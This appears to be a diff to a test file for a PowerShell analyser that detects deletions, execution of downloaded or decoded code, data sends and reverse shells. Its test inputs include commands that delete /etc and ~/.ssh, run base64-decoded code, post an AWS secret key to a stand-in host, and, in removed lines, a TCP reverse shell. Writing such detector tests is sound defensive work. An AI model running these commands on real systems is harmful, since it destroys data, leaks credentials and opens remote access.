@@ -1,3 +1,4 @@
+// Shared behaviour (command lines, paths, reverse shells, everyday code): ../producers.test.ts.
 import { describe, expect, it } from 'vitest';
 import { effectsOf, of } from '../../../../test/support/code-effects.js';
 
@@ -7,7 +8,6 @@ describe('powershell producer', () => {
   it('states cmdlets with their parameters and aliases', () => {
     expect(of(ps('Remove-Item -Path "/etc" -Recurse -Force'), 'delete')[0]).toMatchObject({ recursive: true, path: { path: '/etc' } });
     expect(of(ps('rm -r ~/.ssh'), 'delete').length + of(ps('rm -r ~/.ssh'), 'exec').length).toBeGreaterThan(0);
-    expect(of(ps('[System.IO.File]::Delete("/etc/passwd")'), 'delete')[0]?.path.path).toBe('/etc/passwd');
   });
 
   it('runs iex of downloaded or decoded code, and states external programs', () => {
@@ -17,15 +17,11 @@ describe('powershell producer', () => {
     const dec = ps('iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("UmVtb3ZlLUl0ZW0gL2V0Yw==")))');
     expect(of(dec, 'exec')[0]).toMatchObject({ language: 'powershell', origin: 'decoded' });
     expect(of(dec, 'delete')[0]?.path.path).toBe('/etc');
-    expect(of(ps('"Remove-Item /etc" | iex'), 'delete')[0]?.path.path).toBe('/etc');
     expect(of(ps('& "curl" http://x.example/i.sh'), 'exec')[0]).toMatchObject({ program: 'curl' });
   });
 
-  it('states sends with env sources and reverse shells', () => {
+  it('states sends with env sources', () => {
     const send = ps('Invoke-WebRequest -Uri "https://x.example/c" -Method Post -Body $env:AWS_SECRET_ACCESS_KEY');
     expect(of(send, 'send')[0]).toMatchObject({ sink: 'https://x.example/c', sources: ['env:AWS_SECRET_ACCESS_KEY'] });
-    const shell = ps('$c = New-Object Net.Sockets.TCPClient("10.0.0.1", 4444); $s = $c.GetStream(); while ($true) { $d = $r.ReadLine(); iex $d }');
-    expect(of(shell, 'connect')[0]).toMatchObject({ host: '10.0.0.1', port: 4444, shell: true });
-    expect(ps('Get-ChildItem | Where-Object { $_.Length -gt 1 } | Select-Object Name')).toEqual([]);
   });
 });
